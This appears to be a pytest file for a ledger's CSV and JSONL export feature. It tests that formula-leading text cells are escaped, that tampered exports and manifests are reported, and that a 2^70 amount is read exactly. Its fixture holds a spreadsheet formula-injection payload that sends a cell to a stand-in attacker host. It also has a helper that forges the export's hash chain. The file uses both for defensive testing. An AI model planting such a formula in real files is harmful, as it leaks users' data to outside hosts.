"""Exports on a real SQLite store, as an auditor reads them: ids in the one form the API
and the CLI show (dashed UUIDs) with the account's name beside them, CSV text cells a
spreadsheet cannot run as formulas (numbers left as numbers), and ``verify`` reading
every number exactly — a planted 2^70 is named exactly, never a float, never a crash."""

import csv
import hashlib
import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from adapters.bootstrap import build_services, initialise
from adapters.cli.audit_commands import run_verify
from adapters.exports.checks import check_export
from adapters.exports.exporter import create_export, manifest_path
from adapters.exports.formats import JsonlFormat, link, unescaped
from adapters.presenters import balance_json
from adapters.services import Services
from adapters.settings import Settings
from application.accounts import Accounts

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"refund")'
BIG = 2**70


@pytest.fixture
def services(tmp_path: Path) -> Iterator[Services]:
    settings = Settings(data_dir=tmp_path / "data")
    initialise(settings)
    built = build_services(settings)
    Accounts(built.ledger).create_account("acme")
    Accounts(built.ledger).create_account("@globex")
    Accounts(built.ledger).grant_credits("acme", 5 * 10**9, FORMULA, "+key")
    Accounts(built.ledger).grant_credits("@globex", 10**9, "-2 for the trouble", "k2")
    Accounts(built.ledger).adjust_credits("acme", -(10**9 // 2), "\tcorrection", "k3")
    yield built
    built.close()


def export(services: Services, path: Path, kind: str = "ledger") -> dict[str, Any]:
    return create_export(services, kind, None, None, path.suffix[1:], path)


def accounts_list(services: Services) -> dict[str, str]:
    """``tallyhub accounts list --json``'s ids by name."""
    services.read_models.runner.catch_up()
    return {row["name"]: row["account_id"] for row in map(balance_json, services.read_models.balances.list_balances())}


def test_export_rows_name_accounts_by_the_id_and_name_the_cli_shows(services: Services, tmp_path: Path) -> None:
    listed = accounts_list(services)
    assert listed["acme"] == str(services.ledger.get_account("acme").id)  # dashed, as the API shows it
    manifest = export(services, tmp_path / "ledger.jsonl")
    rows = [json.loads(line) for line in (tmp_path / "ledger.jsonl").read_text().splitlines()]
    assert [(row["account"], row["account_id"]) for row in rows] == [
        ("acme", listed["acme"]),
        ("@globex", listed["@globex"]),
        ("acme", listed["acme"]),
    ]
    assert manifest["columns"][2:4] == ["account_id", "account"] and manifest["layout"] == 2
    assert manifest["accounts"][listed["acme"]]["name"] == "acme"
    assert manifest["accounts"][listed["acme"]]["closing"] == 5 * 10**9 - 10**9 // 2
    assert len(manifest["export_id"]) == 36 and manifest["export_id"].count("-") == 4

    csv_manifest = export(services, tmp_path / "ledger.csv")
    assert csv_manifest["previous_export"] == manifest["export_id"]
    with open(tmp_path / "ledger.csv", newline="") as file:
        assert {row["account_id"] for row in csv.DictReader(file)} == {listed["acme"], listed["@globex"]}
    for kind in ("usage", "requests"):
        assert export(services, tmp_path / f"{kind}.csv", kind)["columns"][1:4] in (
            ["account_id", "account", "api_key_id"],
            ["at", "account_id", "account"],
        )
    report = run_verify(services, [tmp_path / "ledger.jsonl", tmp_path / "ledger.csv"])
    assert report["ok"], report["problems"]


def test_csv_text_cells_that_start_a_formula_are_escaped_and_numbers_are_not(
    services: Services, tmp_path: Path
) -> None:
    export(services, tmp_path / "ledger.csv")
    text = (tmp_path / "ledger.csv").read_text()
    with open(tmp_path / "ledger.csv", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["reason"] for row in rows] == ["'" + FORMULA, "'-2 for the trouble", "'\tcorrection"]
    assert [row["idempotency_key"] for row in rows] == ["'+key", "k2", "k3"]
    assert [row["account"] for row in rows] == ["acme", "'@globex", "acme"]
    assert [row["amount_nanocredits"] for row in rows] == ["5000000000", "1000000000", "-500000000"]
    assert [unescaped(row["reason"]) for row in rows] == [FORMULA, "-2 for the trouble", "\tcorrection"]
    assert not any(line.split(",", 8)[-1].startswith(("=", "+", "@")) for line in text.splitlines())
    # JSON strings are typed: nothing to escape there.
    export(services, tmp_path / "ledger.jsonl")
    assert json.loads((tmp_path / "ledger.jsonl").read_text().splitlines()[0])["reason"] == FORMULA
    report = run_verify(services, [tmp_path / "ledger.csv", tmp_path / "ledger.jsonl"])
    assert report["ok"], report["problems"]


def test_an_edited_escaped_csv_cell_is_named(services: Services, tmp_path: Path) -> None:
    path = tmp_path / "ledger.csv"
    export(services, path)
    path.write_text(path.read_text().replace("'=HYPERLINK", "=HYPERLINK", 1))  # the escape taken away
    problems = check_export(services, path)
    assert any("row 1" in problem and "hash-chain" in problem for problem in problems), problems


def _rewrite_jsonl(path: Path, manifest: dict[str, Any], change: Any) -> None:
    """Edit rows and recompute every link, the digest and the manifest, as a forger would."""
    fmt, chain, lines = JsonlFormat(), manifest["chain"]["seed"], []
    for number, line in enumerate(path.read_bytes().splitlines(keepends=True), start=1):
        row = json.loads(line)
        row.pop("chain")
        change(number, row)
        content = json.dumps(row, separators=(",", ":")).encode()
        chain = link(chain, content)
        lines.append(fmt.line(content, chain))
    path.write_bytes(b"".join(lines))
    manifest.update(sha256=hashlib.sha256(path.read_bytes()).hexdigest(), chain={**manifest["chain"], "head": chain})
    manifest_path(path).write_text(json.dumps(manifest))


def test_a_planted_2_70_amount_in_an_export_is_read_exactly(services: Services, tmp_path: Path) -> None:
    path = tmp_path / "ledger.jsonl"
    manifest = export(services, path)
    _rewrite_jsonl(path, manifest, lambda number, row: row.update(amount_nanocredits=BIG) if number == 1 else None)
    assert f'"amount_nanocredits":{BIG},' in path.read_text()
    problems = check_export(services, path)
    assert any(f"the rows sum to {BIG + 10**9 - 10**9 // 2} nanocredits" in problem for problem in problems), problems
    assert any("row 1 (position" in problem and "amount_nanocredits" in problem for problem in problems)
    assert not any("e+" in problem for problem in problems)


def test_a_planted_2_70_in_a_csv_export_is_read_exactly(services: Services, tmp_path: Path) -> None:
    path = tmp_path / "ledger.csv"
    export(services, path)
    path.write_text(path.read_text().replace(",5000000000,5000000000,", f",{BIG},5000000000,", 1))
    problems = check_export(services, path)
    assert any(f"the rows sum to {BIG + 10**9 - 10**9 // 2} nanocredits" in problem for problem in problems), problems


@pytest.mark.parametrize(
    "manifest",
    [
        [1, 2, 3],
        {"chain": "x"},
        {"chain": {"seed": "zz" * 32, "head": "0" * 64}, "rows": 3},
        {"chain": {"seed": "0" * 64, "head": "0" * 64}, "rows": 3.0},
        {"chain": {"seed": "0" * 64, "head": "0" * 64}, "rows": 3, "events": {"first_position": 1e400}},
        {"chain": {"seed": "0" * 64, "head": "0" * 64}, "rows": 3, "events": {"first_position": BIG * 1.0}},
        {
            "chain": {"seed": "0" * 64, "head": "0" * 64},
            "rows": 3,
            "events": {"first_position": 1, "last_position": BIG},
        },
        {"chain": {"seed": "0" * 64, "head": "0" * 64}, "rows": 3, "layout": 9},
        {"chain": {"seed": "0" * 64, "head": "0" * 64}, "rows": 3, "format": ["csv"]},
    ],
    ids=[
        "a list",
        "chain text",
        "seed not hex",
        "rows a float",
        "infinity",
        "a float position",
        "a 2^70 position",
        "layout 9",
        "format a list",
    ],
)
def test_a_manifest_no_export_wrote_is_a_problem_not_a_crash(services: Services, tmp_path: Path, manifest: Any) -> None:
    path = tmp_path / "ledger.jsonl"
    export(services, path)
    manifest_path(path).write_text(json.dumps(manifest).replace("Infinity", "1e400"))
    problems = check_export(services, path)
    assert problems and all(problem.startswith(f"{path}: ") for problem in problems), problems
    assert any("manifest" in problem for problem in problems)


def test_a_planted_2_70_in_the_event_store_is_folded_exactly(services: Services, tmp_path: Path) -> None:
    services.read_models.runner.catch_up()  # the read models saw the event as it was (and keep it)
    database = services.settings.database.sqlite_path
    with sqlite3.connect(database) as conn:
        rowid, state = conn.execute(
            "SELECT rowid, state FROM stored_events WHERE topic LIKE '%Account.Adjusted' ORDER BY rowid LIMIT 1"
        ).fetchone()
        edited = state.replace(b'"amount":-500000000', f'"amount":-{BIG}'.encode(), 1)
        assert edited != state
        conn.execute("UPDATE stored_events SET state = ? WHERE rowid = ?", (edited, rowid))
    problems = run_verify(services, [])["problems"]
    acme = services.ledger.get_account("acme").id
    assert any(f"account {acme}: the events say balance {5 * 10**9 - BIG}" in problem for problem in problems), problems
    assert not any("e+" in problem for problem in problems)
